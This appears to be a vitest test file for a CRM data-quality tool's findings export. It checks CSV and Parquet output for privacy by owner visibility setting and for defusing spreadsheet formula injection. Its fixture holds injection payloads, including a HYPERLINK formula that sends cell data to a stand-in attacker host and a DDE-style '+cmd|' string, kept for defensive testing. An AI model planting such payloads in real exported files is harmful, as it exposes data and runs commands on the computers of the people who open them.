import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exportFindings } from '../../src/progress/export.ts';
import { judge } from '../../src/scoring/run.ts';
import { openEngine, storeOn } from '../../src/store/duckdb/open.ts';
import type { RecordStore } from '../../src/store/ports.ts';
import { landWorld } from '../worlds/small-mirror.ts';
import { testStrategy } from '../worlds/strategy.ts';

/** What spreadsheets take for a formula, and what they do not. */
const NAMES = [
  '=HYPERLINK("https://evil.example.test?"&A1)',
  '+1+cmd|x',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1',
  'Fine, "really"\nfine',
];

const folder = mkdtempSync(join(tmpdir(), 'plumbline-export-'));
let store: RecordStore;
let rows: (sql: string) => Promise<Record<string, unknown>[]>;
const agreed = {
  rep_level: 'manager',
  reason: 'Coaching.',
  consulted: 'The works council',
  agreed: '2026-01-01',
};

beforeAll(async () => {
  const opened = await openEngine(':memory:', 256);
  store = storeOn(opened);
  rows = (sql) => opened.engine.rows(sql);
  await landWorld(store, 'salesforce', {
    user: [
      { id: 'u1', name: '=Ana', team: 'Iberia', active: true, person: true },
      { id: 'u2', name: 'Ben', team: null, active: true, person: true },
    ],
    account: [{ id: 'a1', name: null, ownerId: 'u1' }],
    deal: NAMES.map((name, index) => ({ id: `d/${index}`, name, ownerId: 'u1', closed: false, won: false })),
  });
  const strategy = testStrategy();
  const clock = { now: () => '2026-06-15T12:00:00.000Z' };
  await judge({ store, strategy, strategyVersion: 1, asOf: '2026-06-15', clock, keep: true });
});
afterAll(async () => {
  await store.close();
  rmSync(folder, { recursive: true });
});

async function written(format: 'csv' | 'parquet', people: object = {}): Promise<Record<string, unknown>[]> {
  const file = join(folder, `findings.${format}`);
  const words = (id: string) => ({ title: `=${id}`, fix: 'Mend it.' });
  const strategy = testStrategy({ people });
  const { rows: count } = await exportFindings({ store, strategy, file, format, words });
  const found =
    format === 'parquet'
      ? await rows(`from read_parquet('${file}')`)
      : (parse(readFileSync(file, 'utf8'), { columns: true }) as Record<string, unknown>[]);
  expect(found).toHaveLength(count);
  return found;
}

describe('findings as a file', () => {
  test('are every open finding, the same in both formats, each record by its page alone', async () => {
    const csv = await written('csv');
    const parquet = await written('parquet');
    const text = (row: Record<string, unknown>) =>
      Object.fromEntries(Object.entries(row).map(([name, value]) => [name, String(value)]));
    expect(parquet.map(text)).toEqual(csv.map(text));
    expect(Object.keys(csv[0] ?? {})).toEqual([
      ...['check', 'title', 'object', 'dimension', 'severity', 'record', 'since', 'seconds_to_fix', 'fix'],
    ]);
    const open = (await store.measuring.findings()).filter(({ object }) => object !== 'user');
    expect(csv).toHaveLength(open.length);
    expect(new Set(csv.map(({ record }) => record))).toContain('https://crm.example.com/d%2F3');
    expect(new Set(csv.map(({ record }) => record))).toContain('salesforce account a1');
    expect(JSON.stringify([csv, parquet])).not.toMatch(/Ana|Iberia|Ben|u1|u2|SUM/);
  });

  test('say what records are called and whose they are only where the strategy allows it', async () => {
    for (const level of ['self', 'off']) {
      const [first] = await written('csv', { rep_level: level });
      expect(Object.keys(first ?? {})).not.toContain('owner');
    }
    const csv = await written('csv', agreed);
    expect(csv.some(({ object }) => object === 'user')).toBe(true);
    expect(csv.find(({ object }) => object === 'deal')).toMatchObject({ owner: "'=Ana", team: 'Iberia' });
  });

  test('hold no text that a spreadsheet takes for a formula, and lose none', async () => {
    for (const format of ['csv', 'parquet'] as const) {
      const found = await written(format, agreed);
      for (const row of found)
        for (const cell of Object.values(row).filter((value) => typeof value === 'string'))
          expect(cell).not.toMatch(/^[=+\-@\t\r\n＝]|^\s+[=+\-@]/);
      const called = new Set(found.map((row) => row['called']));
      for (const name of NAMES) expect(called).toContain(name.startsWith('Fine') ? name : `'${name}`);
    }
  });
});
